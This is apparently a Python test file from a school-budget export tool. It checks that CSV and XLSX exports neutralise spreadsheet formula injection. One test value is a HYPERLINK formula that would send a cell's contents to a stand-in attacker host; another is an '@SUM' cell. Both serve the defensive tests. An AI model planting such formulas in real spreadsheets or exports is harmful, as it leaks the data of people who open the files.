"""Export and import injection (issue 14): a school named `=HYPERLINK(…)` came out of the
XLSX exports as a live formula and raw in the CSVs; the import took `=`, `+`, `-`, `@` cells."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from projections.export_files import to_csv, to_xlsx
from projections.exports import balances_export

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def _rows() -> list[dict[str, object]]:
    return [{"school_code": "XZ-1", "school_name": LEAK, "district": "@SUM(A1)",
             "fiscal_year": 2025, "fund_code": "F", "unit": "CNY", "allocated": 100,
             "spent": -5 + 5, "remaining": 100, "allocations": 1, "expenditures": 0}]


def test_xlsx_text_cells_are_text_never_formulas() -> None:
    export = balances_export(_rows(), 2025, None)
    book = load_workbook(io.BytesIO(to_xlsx(export.sheets)))
    sheet = book["balances"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    name = next(c for c in cells if c.value == LEAK)
    assert name.data_type == "s"
    assert all(c.data_type != "f" for c in cells)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    export = balances_export(_rows(), 2025, None)
    rows = list(csv.reader(io.StringIO(to_csv(export.sheets[0]).decode("utf-8-sig"))))
    body = rows[1]
    assert "'" + LEAK in body and "'@SUM(A1)" in body
    assert not any(v.startswith(("=", "+", "@")) for v in body)
